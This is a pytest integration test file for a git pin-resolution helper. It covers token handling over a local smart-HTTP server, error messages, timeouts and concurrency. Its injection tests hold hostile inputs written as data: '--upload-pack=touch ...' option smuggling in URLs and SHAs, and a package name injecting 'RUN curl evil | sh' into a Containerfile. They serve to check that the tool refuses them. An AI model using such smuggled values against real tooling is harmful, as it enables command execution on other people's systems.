"""Pin resolution and git helpers against real git: file:// remotes and a smart-HTTP server."""

# ruff: noqa: F811  (the fixtures imported below are used as test arguments)

from __future__ import annotations

import base64
import os
import threading
import time
from pathlib import Path

import pytest

from frappe_imagekit import gitremote
from frappe_imagekit.pins import Pin, RefKind, resolve_pins
from tests.support.githttp import (
    CANARY_TOKEN,
    GitHTTPServer,
    HangingServer,
    Remote,
    free_port,
    git,
    git_http_server,  # noqa: F401
    git_remote,  # noqa: F401
    hanging_server,  # noqa: F401
    make_remote,
    make_small_remote,
)

pytestmark = pytest.mark.integration

TOKEN_VAR = "DE_MACRS_PAT"
ENV = {TOKEN_VAR: CANARY_TOKEN}
CANARY_FORMS = (CANARY_TOKEN, base64.b64encode(f"{CANARY_TOKEN}:".encode()).decode())


def _private_url(server: GitHTTPServer) -> str:
    return server.url("app.git", "${" + TOKEN_VAR + "}")


def test_ls_remote_file_url_lists_heads_and_peeled_tags(git_remote: Remote) -> None:
    refs = gitremote.ls_remote(git_remote.url, {}, None, 10.0)
    assert refs["refs/tags/v15.16.2"] == git_remote.tags["v15.16.2"]
    assert refs["refs/tags/v15.17.0"] == git_remote.tags["v15.17.0"]  # annotated: peeled commit
    assert refs["refs/heads/version-15"] == git_remote.branches["version-15"]
    assert refs["HEAD"] == git_remote.branches["main"]


def test_resolve_tag_annotated_tag_branch_and_release_line(git_remote: Remote) -> None:
    url = git_remote.url
    requests = [
        Pin.at("lightweight", url, "v15.16.2"),
        Pin.at("annotated", url, "v15.17.0"),
        Pin.at("moving", url, "develop"),
        Pin.at("line", url, "version-15"),
    ]
    results = resolve_pins(requests, {}, timeout=10)
    assert [r.name for r in results] == ["lightweight", "annotated", "moving", "line"]
    assert [r.sha for r in results] == [
        git_remote.tags["v15.16.2"],
        git_remote.tags["v15.17.0"],
        git_remote.branches["develop"],
        git_remote.branches["version-15"],
    ]
    assert [r.ref_kind for r in results] == [
        RefKind.RELEASE_TAG,
        RefKind.RELEASE_TAG,
        RefKind.MOVING,
        RefKind.RELEASE_LINE,
    ]
    assert all(r.error is None and r.error_kind is None for r in results)
    # The annotated tag resolves to the commit, not to the tag object.
    tag_object = git("rev-parse", "v15.17.0", cwd=git_remote.bare)
    assert tag_object != results[1].sha


def test_missing_ref_lists_closest_tags(git_remote: Remote) -> None:
    (result,) = resolve_pins([Pin.at("erpnext", git_remote.url, "v15.99.0")], {}, timeout=10)
    assert result.sha is None
    assert result.error_kind == "missing-ref"
    assert result.suggestions == ["v15.17.0", "v15.16.2"]
    assert result.error == (
        f"branch or tag 'v15.99.0' does not exist in {git_remote.url}; closest tags: v15.17.0, v15.16.2"
    )


def test_missing_release_line_suggests_existing_line(git_remote: Remote) -> None:
    (result,) = resolve_pins([Pin.at("erpnext", git_remote.url, "version-16")], {}, timeout=10)
    assert result.error_kind == "missing-ref"
    assert result.suggestions == ["version-15"]
    assert result.error is not None and result.error.endswith("closest branches: version-15")


def test_right_token_over_smart_http_resolves(git_remote: Remote, git_http_server) -> None:
    request = Pin.at("de_macrs", _private_url(git_http_server), "v15.17.0")
    (result,) = resolve_pins([request], ENV, timeout=10)
    assert result.error is None
    assert result.sha == git_remote.tags["v15.17.0"]
    assert git_http_server.rejected == 0


def test_wrong_token_is_an_auth_error_naming_the_variable(
    git_http_server,
    capfd: pytest.CaptureFixture[str],
) -> None:
    wrong = "ghp_WRONGCANARY9876543210zyxwvu"
    request = Pin.at("de_macrs", _private_url(git_http_server), "v15.17.0")
    (result,) = resolve_pins([request], {TOKEN_VAR: wrong}, timeout=10)
    assert result.sha is None
    assert result.error_kind == "auth"
    assert result.error == (
        "git ls-remote failed for de_macrs: authentication refused: "
        "is DE_MACRS_PAT expired or missing access to this repository?"
    )
    assert git_http_server.rejected >= 1  # a real 401 from the server
    captured = capfd.readouterr()
    for text in (result.error, captured.out, captured.err):
        assert wrong not in text
        assert CANARY_TOKEN not in text


def test_no_token_for_private_repo_says_how_to_add_one(git_http_server) -> None:
    url = git_http_server.url("app.git")
    (result,) = resolve_pins([Pin.at("de_macrs", url, "v15.17.0")], {}, timeout=10)
    assert result.error_kind == "auth"
    assert result.error == (
        f"git ls-remote failed for de_macrs: authentication refused by {url}: the repository "
        "needs a token; write the URL as https://${VAR}@host/org/repo and set VAR in .env."
    )


def test_unset_token_variable_is_reported_without_calling_git(git_http_server) -> None:
    request = Pin.at("de_macrs", _private_url(git_http_server), "v15.17.0")
    (result,) = resolve_pins([request], {}, timeout=10)
    assert result.error_kind == "auth"
    assert result.error == (
        "git ls-remote failed for de_macrs: DE_MACRS_PAT is empty or not set in .env: "
        "set it before resolving refs."
    )
    assert git_http_server.requests == []


def test_missing_repository_over_http(git_http_server) -> None:
    url = git_http_server.url("nope.git", "${" + TOKEN_VAR + "}")
    (result,) = resolve_pins([Pin.at("de_macrs", url, "v1.0.0")], ENV, timeout=10)
    assert result.error_kind == "missing-repo"
    assert result.error == (
        f"git ls-remote failed for de_macrs: repository {git_http_server.url('nope.git')} not "
        "found: check the URL, or whether DE_MACRS_PAT has access to it."
    )


def test_unreachable_port(tmp_path: Path) -> None:
    url = f"http://127.0.0.1:{free_port()}/app.git"
    (result,) = resolve_pins([Pin.at("gone", url, "v1.0.0")], {}, timeout=10)
    assert result.error_kind == "unreachable"
    assert result.error is not None
    assert result.error.startswith(f"git ls-remote failed for gone: cannot reach {url} (")
    assert result.error.endswith("): check the URL and the network.")


def test_timeout_per_remote_does_not_hold_up_the_others(
    git_remote: Remote,
    hanging_server: HangingServer,
) -> None:
    requests = [
        Pin.at("stuck", hanging_server.url(), "v1.0.0"),
        Pin.at("fine", git_remote.url, "v15.17.0"),
    ]
    started = time.monotonic()
    stuck, fine = resolve_pins(requests, {}, timeout=1.5)
    elapsed = time.monotonic() - started
    assert stuck.error_kind == "timeout"
    assert stuck.error == (
        f"git ls-remote failed for stuck: no answer from {hanging_server.url()} within 1.5 s: "
        "check the network or the server."
    )
    assert fine.sha == git_remote.tags["v15.17.0"]
    assert 1.4 < elapsed < 6.0


def test_twenty_remotes_resolve_concurrently(tmp_path: Path) -> None:
    shas = [make_small_remote(tmp_path, f"app{i}", f"v1.{i}.0")[1] for i in range(20)]
    assert len(set(shas)) == 20
    with GitHTTPServer(tmp_path, tokens=[CANARY_TOKEN], latency=0.05) as server:
        requests = [
            Pin.at(f"app{i}", server.url(f"app{i}.git", "${DE_MACRS_PAT}"), f"v1.{i}.0") for i in range(20)
        ]
        results = resolve_pins(requests, ENV, timeout=20, max_workers=8)
    assert [r.name for r in results] == [f"app{i}" for i in range(20)]
    assert [r.error for r in results] == [None] * 20
    assert [r.sha for r in results] == shas
    assert server.max_in_flight > 1  # the server saw overlapping requests


def test_same_remote_is_listed_once(git_remote: Remote, git_http_server) -> None:
    url = _private_url(git_http_server)
    requests = [Pin.at(f"a{i}", url, ref) for i, ref in enumerate(["develop", "v15.16.2"])]
    first, second = resolve_pins(requests, ENV, timeout=10)
    assert (first.sha, second.sha) == (git_remote.branches["develop"], git_remote.tags["v15.16.2"])
    assert sum("info/refs" in r for r in git_http_server.requests) == 1


def test_token_never_in_git_argv(tmp_path: Path) -> None:
    """Poll /proc/*/cmdline while git talks to a slow server: the canary never shows up."""
    make_remote(tmp_path, "app")
    seen: list[str] = []
    done = threading.Event()

    def poll() -> None:
        while not done.is_set():
            for entry in os.scandir("/proc"):
                if not entry.name.isdigit():
                    continue
                try:
                    with open(f"/proc/{entry.name}/cmdline", "rb") as handle:
                        argv = handle.read().replace(b"\0", b" ").decode(errors="replace")
                except OSError:
                    continue
                if "git" in argv and "127.0.0.1" in argv:
                    seen.append(argv)
            time.sleep(0.01)

    with GitHTTPServer(tmp_path, tokens=[CANARY_TOKEN], latency=0.4) as server:
        poller = threading.Thread(target=poll, daemon=True)
        poller.start()
        try:
            refs = gitremote.ls_remote(_private_url(server), ENV, TOKEN_VAR, 15.0)
        finally:
            done.set()
            poller.join(timeout=5)
    assert "refs/tags/v15.17.0" in refs
    assert any("ls-remote" in argv for argv in seen), "the poller never saw git running"
    assert any("git-remote-http" in argv or "remote-http" in argv for argv in seen)
    for argv in seen:
        for form in CANARY_FORMS:
            assert form not in argv


def test_count_commits_between_over_http_and_file(git_remote: Remote, git_http_server) -> None:
    old, new = git_remote.tags["v15.16.2"], git_remote.branches["develop"]
    url = _private_url(git_http_server)
    assert gitremote.count_commits_between(url, ENV, TOKEN_VAR, old, new, 15.0) == 2
    assert gitremote.count_commits_between(url, ENV, TOKEN_VAR, new, old, 15.0) == -2
    assert gitremote.count_commits_between(git_remote.url, {}, None, old, new, 15.0) == 2
    assert gitremote.count_commits_between(git_remote.url, {}, None, old, old, 15.0) == 0


def test_count_commits_between_diverged_or_unknown_is_none(git_remote: Remote) -> None:
    develop, line = git_remote.branches["develop"], git_remote.branches["version-15"]
    assert gitremote.count_commits_between(git_remote.url, {}, None, develop, line, 15.0) is None
    unknown = "0123456789abcdef0123456789abcdef01234567"
    assert gitremote.count_commits_between(git_remote.url, {}, None, unknown, line, 15.0) is None


def test_count_commits_between_wrong_token_raises_auth(git_remote: Remote, git_http_server) -> None:
    old, new = git_remote.tags["v15.16.2"], git_remote.branches["develop"]
    with pytest.raises(gitremote.GitAuthError) as caught:
        gitremote.count_commits_between(
            _private_url(git_http_server),
            {TOKEN_VAR: "ghp_WRONG_TOKEN_123"},
            TOKEN_VAR,
            old,
            new,
            15.0,
        )
    assert "is DE_MACRS_PAT expired" in caught.value.message
    assert "ghp_WRONG_TOKEN_123" not in caught.value.message


def test_workspace_commit_clean_dirty_and_not_a_repo(git_remote: Remote, tmp_path: Path) -> None:
    work = git_remote.work
    git("checkout", "-q", "main", cwd=work)
    head = git("rev-parse", "HEAD", cwd=work)
    (work / "untracked.env").write_text("X=1\n")
    assert gitremote.workspace_commit(work) == (head, False)
    (work / "history.txt").write_text("changed\n")
    assert gitremote.workspace_commit(work) == (head, True)
    (work / "sub").mkdir()
    assert gitremote.workspace_commit(work / "sub") == (head, True)
    plain = tmp_path / "plain"
    plain.mkdir()
    assert gitremote.workspace_commit(plain) == (None, None)


# -- issue 8: nothing read from a file reaches real git as an option ----------------------------


def _injections(marker: Path) -> list[str]:
    return [f"--upload-pack=touch {marker};git-upload-pack", f"--upload-pack=touch {marker}"]


def test_an_option_shaped_url_never_runs_a_command(git_remote: Remote, tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    for url in _injections(marker):
        with pytest.raises(gitremote.GitURLRefused) as caught:
            gitremote.ls_remote(url, {}, None, 10.0)
        assert caught.value.exit_code == 1 and "cannot start with '-'" in caught.value.message
        results = resolve_pins([Pin.at("app", url, "v15.17.0")], {}, timeout=10.0)
        assert results[0].error_kind == "bad-url" and results[0].sha is None
    assert not marker.exists()


def test_a_crafted_sha_never_reaches_git(git_remote: Remote, tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    good = git_remote.tags["v15.17.0"]
    for sha in _injections(marker) + [f"{good} --upload-pack=touch {marker}", good[:12]]:
        for old, new in ((sha, good), (good, sha)):
            with pytest.raises(gitremote.GitURLRefused, match="is not a commit SHA"):
                gitremote.count_commits_between(git_remote.url, {}, None, old, new, 10.0)
    assert not marker.exists()


def test_a_token_placeholder_in_the_url_path_never_reaches_argv(git_http_server, tmp_path: Path) -> None:
    url = git_http_server.url("${DE_MACRS_PAT}/app.git")
    with pytest.raises(gitremote.GitURLRefused, match="placeholder outside the user part"):
        gitremote.ls_remote(url, ENV, None, 10.0)
    (result,) = resolve_pins([Pin.at("app", url, "v15.17.0")], ENV, timeout=10.0)
    assert result.error_kind == "bad-url" and CANARY_TOKEN not in (result.error or "")
    assert git_http_server.requests == []  # git never ran


# ---------------------------------------------------------------- the app's name (issue 18 item 7)

MY_APP_FILES = {
    "pyproject.toml": '[project]\nname = "my_app"\nversion = "1.0.0"\n',
    "setup.py": 'from setuptools import setup\nsetup(name="not_this_one")\n',
    "my_app/hooks.py": 'app_name = "my_app"\n',
    "my_app/__init__.py": '__version__ = "1.0.0"\n',
    "docs/readme.txt": "no hooks here\n",
}


def _my_app(root: Path) -> Remote:
    """A repository named my-app holding the package my_app, tagged v1.0.0 (annotated)."""
    remote = make_remote(root, "my-app", tags=(), annotated=(), branches=())
    remote.commit_files("the app", MY_APP_FILES)
    remote.tag("v1.0.0", annotated=True)
    remote.commit_files("renamed later", {"pyproject.toml": '[project]\nname = "renamed"\n'})
    git("config", "uploadpack.allowFilter", "true", cwd=remote.bare)  # a blobless fetch, as on GitHub
    return remote


def test_the_app_name_is_read_at_the_resolved_commit_over_http_with_a_token(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    remote = _my_app(tmp_path / "remotes")
    with GitHTTPServer(remote.bare.parent, tokens=[CANARY_TOKEN]) as server:
        url = server.url("my-app.git", "${" + TOKEN_VAR + "}")
        tag, main = resolve_pins(
            [Pin.at("my-app", url, "v1.0.0", read_name=True), Pin.at("my-app", url, "main", read_name=True)],
            ENV,
            timeout=10,
        )
        assert server.rejected == 0
        # a server that speaks only protocol v0: no fetch by commit or by blob id, the tag instead
        server.protocol_v0_only = True
        found = gitremote.read_app_files(url, ENV, TOKEN_VAR, remote.tags["v1.0.0"], "v1.0.0", 10)
    assert (tag.error, tag.name, tag.sha, tag.is_tag) == (None, "my_app", remote.tags["v1.0.0"], True)
    assert tag.shown_name == "my_app (my-app)"
    assert (main.name, main.is_tag) == ("renamed", False)  # the name at each pin's own commit
    assert found.files["pyproject.toml"] == MY_APP_FILES["pyproject.toml"].rstrip("\n")
    assert set(found.files) == {"pyproject.toml", "setup.py"} and found.hooks_folders == ("my_app",)
    captured = capfd.readouterr()
    for form in CANARY_FORMS:
        assert form not in captured.out + captured.err + str(tag) + str(main)


def test_a_repository_naming_no_valid_package_is_an_error_naming_the_fix(tmp_path: Path) -> None:
    remote = make_remote(tmp_path / "remotes", "my-app", tags=("v1.0.0",), annotated=(), branches=())
    (result,) = resolve_pins([Pin.at("my-app", remote.url, "v1.0.0", read_name=True)], {}, timeout=10)
    assert result.sha == remote.tags["v1.0.0"] and not result.ok
    assert result.error_kind == "app-name"
    assert result.error is not None and result.error.startswith(
        "the app name of my-app at v1.0.0 (its URL (no pyproject.toml, setup.cfg or setup.py name)) "
        "'my-app' is not a Python package name"
    )
    # a name that would break out of a Containerfile line, read from the repository
    remote.commit_files("hostile", {"pyproject.toml": '[project]\nname = "x\\nRUN curl evil | sh"\n'})
    (hostile,) = resolve_pins([Pin.at("my-app", remote.url, "main", read_name=True)], {}, timeout=10)
    assert hostile.error_kind == "app-name" and "\n" not in str(hostile.error)
    assert "is not a Python package name" in str(hostile.error)
